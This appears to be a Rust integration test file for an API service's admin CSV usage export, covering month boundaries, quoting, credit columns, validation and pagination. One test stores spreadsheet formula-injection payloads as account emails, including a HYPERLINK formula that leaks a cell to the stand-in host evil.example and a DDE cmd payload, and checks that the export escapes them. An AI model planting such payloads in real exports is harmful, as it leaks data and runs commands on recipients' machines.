//! `GET /admin/v1/usage/export`: the month's CSV.

use chrono::{TimeZone, Utc};

use super::*;

async fn export(app: &TestApp, month: &str) -> Vec<::csv::StringRecord> {
    let res = app
        .admin_get(&format!("/admin/v1/usage/export?month={month}"))
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let body = res.bytes().await.unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&body[..]);
    reader.records().map(|r| r.unwrap()).collect()
}

const HEADER: [&str; 8] = [
    "account_id",
    "email",
    "plan",
    "allowance",
    "used",
    "calls",
    "credits_spent",
    "month_start",
];

#[tokio::test]
async fn calls_at_a_months_edges_count_in_their_own_months() {
    let app = spawn_app().await;
    let customer = app.signup().await;
    let last_instant = Utc.with_ymd_and_hms(2025, 1, 31, 23, 59, 59).unwrap()
        + chrono::Duration::milliseconds(999);
    let next_month = Utc.with_ymd_and_hms(2025, 2, 1, 0, 0, 0).unwrap();
    account_calls(&app, &customer, 1, 4, last_instant).await;
    account_calls(&app, &customer, 2, 1, next_month).await;

    let january = export(&app, "2025-01").await;
    assert_eq!(january[0].iter().collect::<Vec<_>>(), HEADER);
    assert_eq!(january.len(), 2);
    let row: Vec<&str> = january[1].iter().collect();
    let id = customer.account_id.to_string();
    assert_eq!(
        row,
        [
            id.as_str(),
            customer.email.as_str(),
            "free",
            "3000",
            "4",
            "1",
            "0",
            "2025-01-01T00:00:00Z"
        ]
    );
    let february = export(&app, "2025-02").await;
    let row: Vec<&str> = february[1].iter().collect();
    assert_eq!(
        row,
        [
            id.as_str(),
            customer.email.as_str(),
            "free",
            "3000",
            "2",
            "2",
            "0",
            "2025-02-01T00:00:00Z"
        ]
    );
    // A month without usage: the header alone.
    assert_eq!(export(&app, "2024-12").await.len(), 1);
}

#[tokio::test]
async fn emails_and_plans_with_commas_quotes_and_line_breaks_are_quoted() {
    let app = spawn_app().await;
    let customer = app.signup().await;
    let email = "\"o'neil, jr\"@example.com";
    sqlx::query("UPDATE account SET email = $1 WHERE id = $2")
        .bind(email)
        .bind(customer.account_id)
        .execute(&app.db.pool)
        .await
        .unwrap();
    let res = app
        .admin_post(
            &format!("/admin/v1/accounts/{}/subscriptions", customer.account_id),
            &serde_json::json!({"plan": "gold, plus", "monthly_allowance": 50}),
        )
        .await;
    assert_eq!(res.status(), 201);
    // Plan names are refused with a quote today; a row written before that rule has one.
    sqlx::query("UPDATE subscription SET plan = $1 WHERE account_id = $2 AND plan = 'gold, plus'")
        .bind("gold, \"plus\"")
        .bind(customer.account_id)
        .execute(&app.db.pool)
        .await
        .unwrap();
    account_calls(&app, &customer, 3, 1, Utc::now()).await;
    let month = Utc::now().format("%Y-%m").to_string();
    let rows = export(&app, &month).await;
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[1][1], email);
    assert_eq!(&rows[1][2], "gold, \"plus\"");
    assert_eq!(&rows[1][3], "50");
    assert_eq!(&rows[1][4], "3");
}

#[tokio::test]
async fn emails_that_a_spreadsheet_would_run_as_formulas_come_out_as_text() {
    let app = spawn_app().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")@x.com",
        "=cmd|'/ccalc'!a0@x.com",
        "+1+1@x.com",
        "-2+3@x.com",
    ];
    let mut ids = Vec::new();
    for email in formulas {
        let res = app
            .post_json(
                "/account/v1/signup",
                &serde_json::json!({"email": email, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(res.status(), 201, "signup of {email}");
        let body: serde_json::Value = res.json().await.unwrap();
        let customer = Customer {
            account_id: body["account_id"].as_i64().unwrap(),
            key_id: body["key_id"].as_i64().unwrap(),
            api_key: body["api_key"].as_str().unwrap().to_owned(),
            email: email.to_owned(),
            password: String::new(),
        };
        account_calls(&app, &customer, 1, 1, Utc::now()).await;
        ids.push(customer.account_id);
    }
    let month = Utc::now().format("%Y-%m").to_string();
    let rows = export(&app, &month).await;
    for (email, id) in formulas.iter().zip(ids) {
        let row = rows
            .iter()
            .find(|row| row[0] == id.to_string())
            .expect("the account's row");
        let stored = email.to_lowercase();
        assert_eq!(row[1], format!("'{stored}"), "the cell starts with a quote");
    }
}

#[tokio::test]
async fn credit_spent_beyond_the_allowance_is_its_own_column() {
    let app = spawn_app_with(|c| c.usage.free_monthly_calls = 2).await;
    let customer = app.signup().await;
    let res = app
        .admin_post(
            &format!("/admin/v1/accounts/{}/grants", customer.account_id),
            &serde_json::json!({"calls": 10, "expires_at": null}),
        )
        .await;
    assert_eq!(res.status(), 201);
    account_calls(&app, &customer, 5, 1, Utc::now()).await;
    let month = Utc::now().format("%Y-%m").to_string();
    let rows = export(&app, &month).await;
    assert_eq!((&rows[1][4], &rows[1][5], &rows[1][6]), ("5", "5", "3"));
}

#[tokio::test]
async fn a_bad_month_or_token_is_refused() {
    let app = spawn_app().await;
    for month in ["2025-13", "25-01", "9999-12", "x"] {
        let res = app
            .admin_get(&format!("/admin/v1/usage/export?month={month}"))
            .await;
        assert_error(res, 422, "VALIDATION_FAILED").await;
    }
    let res = app
        .client
        .get(app.url("/admin/v1/usage/export?month=2025-01"))
        .send()
        .await
        .unwrap();
    assert_error(res, 401, "UNAUTHORIZED").await;
}

#[tokio::test]
async fn the_export_pages_through_more_accounts_than_one_page() {
    let app = spawn_app().await;
    let month_start = Utc.with_ymd_and_hms(2025, 3, 1, 0, 0, 0).unwrap();
    let n = tollgate::export::csv::PAGE + 5;
    sqlx::query(
        "WITH a AS (INSERT INTO account (email, password_hash)
                    SELECT 'bulk' || i || '@example.com', 'x' FROM generate_series(1, $1) i
                    RETURNING id)
         INSERT INTO usage_counter (account_id, month_start, used) SELECT id, $2, id FROM a",
    )
    .bind(n)
    .bind(month_start)
    .execute(&app.db.pool)
    .await
    .unwrap();
    let rows = export(&app, "2025-03").await;
    assert_eq!(rows.len() as i64, n + 1);
    let ids: Vec<i64> = rows[1..].iter().map(|r| r[0].parse().unwrap()).collect();
    assert!(
        ids.windows(2).all(|w| w[0] < w[1]),
        "in id order, none twice"
    );
    assert!(rows[1..].iter().all(|r| r[0] == r[4]));
}
